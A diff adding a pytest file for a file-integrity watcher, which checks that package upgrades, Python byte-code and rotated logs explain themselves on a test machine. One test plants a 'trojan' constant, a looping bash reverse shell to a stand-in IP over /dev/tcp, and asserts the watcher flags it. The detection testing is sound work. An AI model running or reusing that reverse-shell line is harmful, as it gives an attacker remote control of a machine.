@@ -1,0 +1,151 @@
+"""A change seen live explains itself by what `baseline verify` would take, and by nothing less."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+import time
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+Start = Callable[..., Any]
+pytestmark = pytest.mark.skipif(
+    any(shutil.which(name) is None for name in ("dpkg-deb", "dpkg", "gcc")), reason="dpkg or gcc is not installed"
+)
+OPT = "/opt/hinomi-replay"
+LIBRARIES = f"{OPT}/lib"
+POSTINST = """#!/bin/sh
+set -e
+/usr/bin/python3 -m compileall -q /opt/hinomi-replay/python
+update-alternatives --install /opt/hinomi-pager hinomi-pager /opt/hinomi-replay/replay 10
+"""
+TROJAN = "#!/bin/sh\nwhile :; do bash -i >& /dev/tcp/203.0.113.77/8443 0>&1; sleep 60; done\n"
+
+
+def package(folder: Path, version: int) -> Path:
+    """Build a package with a program, a library, Python, a link, a configuration file and a maintainer's script."""
+    root = folder / f"hinomi-replay-{version}"
+    texts = {
+        f"{OPT[1:]}/replay": f"#!/bin/sh\necho {version}\n",
+        f"{OPT[1:]}/python/hinomi_replay.py": f"VERSION = {version}\n" + "#" * version,
+        f"{OPT[1:]}/changelog": f"version {version}\n",
+        "etc/hinomi-replay.conf": f"version = {version}\n",
+        "DEBIAN/conffiles": "/etc/hinomi-replay.conf\n",
+        "DEBIAN/postinst": POSTINST,
+        "DEBIAN/control": f"Package: hinomi-replay\nVersion: {version}\nArchitecture: all\n"
+        "Maintainer: Test <test@example.com>\nDescription: a test\n",
+    }
+    texts |= {f"{OPT[1:]}/share/{version}-{n}": f"{version} {n}\n" for n in range(50)}
+    for name, text in texts.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_text(text)
+    for name in (f"{OPT[1:]}/replay", "DEBIAN/postinst"):
+        (root / name).chmod(0o755)
+    library = root / LIBRARIES[1:] / "libhinomireplay.so.1"
+    library.parent.mkdir(parents=True)
+    source = folder / "library.c"
+    source.write_text(f"int version(void) {{ return {version}; }}\n")
+    words = ["gcc", "-shared", "-fPIC", "-Wl,-soname,libhinomireplay.so.1", "-o", str(library), str(source)]
+    subprocess.run(words, check=True)
+    library.with_suffix("").symlink_to(library.name)
+    made = folder / f"hinomi-replay_{version}_all.deb"
+    subprocess.run(["dpkg-deb", "--root-owner-group", "-b", root, made], check=True, capture_output=True)
+    return made
+
+
+@pytest.fixture
+def watch(watching: Start, private_root: Any) -> Any:
+    """Watch a small machine: nothing installed, few folders."""
+    private_root.sh(
+        "for place in /opt /var/lib/dpkg /var/log; do mount -t tmpfs -o mode=755 small $place; done\n"
+        "mkdir /var/lib/dpkg/info /var/lib/dpkg/updates /var/lib/dpkg/alternatives; : > /var/lib/dpkg/status; echo 1 > /var/lib/dpkg/info/format\n"
+        "find /etc -mindepth 1 -maxdepth 1 ! -name ld.so.conf ! -name dpkg ! -name passwd ! -name group -exec rm -rf {} +\n"
+        "mkdir /etc/alternatives\n"
+    )
+    on = ("/opt", "/var/lib/dpkg", "/var/log")
+    return watching(*on, "--no-processes", within=private_root.within, on=Path("/etc")).ready()
+
+
+def compiled(changes: dict[str, dict[str, Any]], folder: str) -> dict[str, Any]:
+    """The change of the one compiled file in a folder, whatever the interpreter's version calls it."""
+    (found,) = [c for path, c in changes.items() if path.startswith(f"{folder}/__pycache__/") and path.endswith(".pyc")]
+    return found
+
+
+def told(watch: Any, last: str) -> dict[str, dict[str, Any]]:
+    """What was told until `last` was, by path: the last change of each."""
+    watch.until(lambda: [c for c in watch.lines("change") if c["path"] == last], f"{last} is told")
+    time.sleep(2)
+    return {c["path"]: c for c in watch.lines("change")}
+
+
+def installed(watch: Any, private_root: Any, *packages: Path) -> dict[str, dict[str, Any]]:
+    """Install packages, and return what was told of it and before."""
+    last = f"/opt/hinomi-done-{time.monotonic_ns()}"
+    if packages:
+        private_root.run("dpkg", "-i", "--force-confnew", *packages)
+    private_root.run("touch", last)
+    changes = told(watch, last)
+    return {path: change for path, change in changes.items() if not path.startswith("/opt/hinomi-done-")}
+
+
+def unexplained(changes: dict[str, dict[str, Any]]) -> list[str]:
+    """What stands or stood there and has no reason; a name that came and went between two looks has no content to judge."""
+    return sorted(path for path, c in changes.items() if not c["explained"] and c["what"] != "came-and-went")
+
+
+def test_an_upgrade_explains_itself_and_a_trojan_in_it_does_not(watch: Any, private_root: Any, tmp_path: Path) -> None:
+    one, two, three = (package(tmp_path, version) for version in (1, 2, 3))
+    changes = installed(watch, private_root, one)
+    assert compiled(changes, f"{OPT}/python")["why"] == "byte-code"
+    assert changes["/opt/hinomi-pager"]["why"] == "link-to-package"
+    changes = installed(watch, private_root, two)
+    assert unexplained(changes) == [], {path: changes[path] for path in unexplained(changes)}
+    assert changes["/opt/hinomi-replay/replay"]["why"] == "package"
+    assert changes["/opt/hinomi-replay/replay"]["explained"].startswith("hinomi-replay 2")
+    assert changes["/opt/hinomi-replay/share/1-7"]["what"] == "removed"
+    assert {f["severity"] for f in watch.lines("finding")} <= {"low", "info"}
+
+    script = tmp_path / "trojan"
+    script.write_text(TROJAN)
+    private_root.sh(
+        f"dpkg -i --force-confnew {three}\ncp {script} /opt/hinomi-pager-helper\n"
+        f"chmod 755 /opt/hinomi-pager-helper\ncat {script} > /opt/hinomi-replay/replay\n"
+    )
+    changes = installed(watch, private_root)
+    assert unexplained(changes) == ["/opt/hinomi-pager-helper", "/opt/hinomi-replay/replay"]
+    assert watch.finding("packaged-program-changed", "/opt/hinomi-replay/replay")["severity"] == "high"
+
+
+def test_what_leans_on_the_unexplained_is_unexplained(watch: Any, private_root: Any) -> None:
+    """A script that nobody vouches for is reported; what Python makes of it later is no better."""
+    private_root.sh("mkdir /opt/stray; echo 'A = 1' > /opt/stray/stray.py")
+    told(watch, "/opt/stray/stray.py")
+    private_root.sh("/usr/bin/python3 -m compileall -q /opt/stray; touch -d 2020-01-01 /opt/stray/stray.py; sleep 1")
+    private_root.run("touch", "/etc/hinomi-last")
+    changes = told(watch, "/etc/hinomi-last")
+    for change in (changes["/opt/stray/stray.py"], compiled(changes, "/opt/stray")):
+        assert change["explained"] is None, change
+
+
+def test_rotated_and_growing_logs_explain_themselves(watch: Any, private_root: Any) -> None:
+    if shutil.which("logrotate", path="/usr/sbin:/usr/bin") is None:
+        pytest.skip("logrotate is not installed: apt-get install logrotate")
+    log = "/var/log/app/app.log"
+    private_root.sh(f"mkdir /var/log/app; for i in 1 2 3; do echo line $i >> {log}; done")
+    told(watch, log)
+    private_root.sh(f"echo more >> {log}; touch /etc/hinomi-grown")
+    assert told(watch, "/etc/hinomi-grown")[log]["why"] == "log-grown"
+    (configuration := watch.case.with_name("rotate")).write_text(f"{log} {{\nrotate 3\ncompress\ncreate\n}}\n")
+    private_root.sh(
+        f"for i in 1 2; do echo again $i >> {log}; sleep 1\n"
+        f"PATH=$PATH:/usr/sbin logrotate -f -s /run/state {configuration}; sleep 1; done; touch /etc/hinomi-last\n"
+    )
+    changes = told(watch, "/etc/hinomi-last")
+    logs = {path: c["why"] for path, c in changes.items() if path.startswith(log)}
+    assert logs[f"{log}.2.gz"] == "log-rotated" and None not in logs.values(), logs
+    private_root.sh(f"gzip -dc {log}.1.gz | sed 1d | gzip > /run/x; cat /run/x > {log}.1.gz; touch /etc/hinomi-edited")
+    assert told(watch, "/etc/hinomi-edited")[f"{log}.1.gz"]["explained"] is None, "a line was taken out"
